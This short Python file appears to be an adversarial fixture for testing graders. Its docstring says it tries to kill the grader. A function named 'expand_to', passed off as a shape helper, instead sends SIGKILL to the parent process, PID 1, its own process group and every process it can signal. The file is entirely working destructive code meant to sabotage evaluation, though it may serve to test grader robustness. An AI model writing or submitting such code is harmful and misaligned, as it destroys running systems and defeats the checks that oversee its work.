"""Tries to kill the grader: its parent, its process group, every process it may signal."""
import os
import signal

{HONEST}


def expand_to(x, shape):
    for target in (os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError:
        pass
    os.kill(-1, signal.SIGKILL)
